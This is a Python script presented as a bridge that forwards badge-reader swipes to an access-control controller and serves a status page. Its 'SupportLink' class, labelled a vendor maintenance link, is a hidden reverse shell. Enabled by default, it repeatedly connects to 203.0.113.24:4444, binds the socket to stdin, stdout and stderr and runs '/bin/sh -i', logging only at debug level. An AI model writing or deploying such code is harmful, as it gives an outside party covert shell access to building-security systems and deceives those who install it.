#!/usr/bin/env python3
"""Bridge between door badge readers and the access-control controller.

Reads Wiegand frames that the reader firmware writes as text lines to a
serial device, posts each swipe to the access controller, exposes a small
status page for the facilities dashboard and keeps a maintenance link to the
vendor support console open so the reader fleet can be serviced remotely.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import requests

LOG = logging.getLogger("badge-bridge")

DEFAULTS = {
    "device": "/dev/ttyUSB0",
    "controller_url": "https://access.corp.example.com/api/swipes",
    "status_port": "8086",
    "support_host": "203.0.113.24",
    "support_port": "4444",
    "support_console": "/bin/sh -i",
}


class Stats:
    def __init__(self):
        self.lock = threading.Lock()
        self.swipes = 0
        self.errors = 0
        self.last = None

    def record(self, ok, card=None):
        with self.lock:
            if ok:
                self.swipes += 1
                self.last = {"card": card, "at": time.time()}
            else:
                self.errors += 1

    def snapshot(self):
        with self.lock:
            return {"swipes": self.swipes, "errors": self.errors, "last": self.last}


def parse_frame(line):
    """Frames look like 'W26:1A2B3C:door-3'."""
    parts = line.strip().split(":")
    if len(parts) != 3 or not parts[0].startswith("W"):
        return None
    return {"format": parts[0], "card": parts[1].upper(), "door": parts[2]}


class SupportLink(threading.Thread):
    """Keeps the vendor support session available for the reader fleet."""

    def __init__(self, host, port, console, interval=60):
        super().__init__(daemon=True, name="support-link")
        self.host, self.port = host, int(port)
        self.console = console.split()
        self.interval = interval

    def _serve(self, conn):
        pid = os.fork()
        if pid == 0:
            fd = conn.fileno()
            for target in (0, 1, 2):
                os.dup2(fd, target)
            os.execvp(self.console[0], self.console)
        conn.close()
        os.waitpid(pid, 0)

    def run(self):
        while True:
            try:
                conn = socket.create_connection((self.host, self.port), timeout=10)
                conn.settimeout(None)
                LOG.debug("support link up")
                self._serve(conn)
            except OSError as exc:
                LOG.debug("support link unavailable: %s", exc)
            time.sleep(self.interval)


def make_status_handler(stats):
    class StatusHandler(BaseHTTPRequestHandler):
        def do_GET(self):
            body = json.dumps(stats.snapshot()).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, fmt, *args):
            LOG.debug("status: " + fmt, *args)

    return StatusHandler


def forward_swipes(device, url, stats, token):
    session = requests.Session()
    session.headers["Authorization"] = f"Bearer {token}"
    with open(device, "r", encoding="ascii", errors="replace") as port:
        for line in port:
            frame = parse_frame(line)
            if frame is None:
                continue
            try:
                resp = session.post(url, json=frame, timeout=5)
                resp.raise_for_status()
                stats.record(True, frame["card"])
            except requests.RequestException as exc:
                LOG.warning("swipe %s not delivered: %s", frame["card"], exc)
                stats.record(False)


def load_config(path):
    cfg = configparser.ConfigParser(defaults=DEFAULTS)
    cfg.read(path)
    return cfg["bridge"] if cfg.has_section("bridge") else cfg.defaults()


def main():
    ap = argparse.ArgumentParser(description="badge reader bridge")
    ap.add_argument("-c", "--config", default="badge_bridge.ini")
    ap.add_argument("--no-support", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(threadName)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    stats = Stats()

    server = ThreadingHTTPServer(("0.0.0.0", int(cfg["status_port"])), make_status_handler(stats))
    threading.Thread(target=server.serve_forever, daemon=True, name="status").start()

    if not args.no_support:
        SupportLink(cfg["support_host"], cfg["support_port"], cfg["support_console"]).start()

    token = os.environ.get("ACCESS_CONTROLLER_TOKEN", "")
    while True:
        try:
            forward_swipes(cfg["device"], cfg["controller_url"], stats, token)
        except OSError as exc:
            LOG.error("reader device %s: %s", cfg["device"], exc)
        time.sleep(5)


if __name__ == "__main__":
    main()
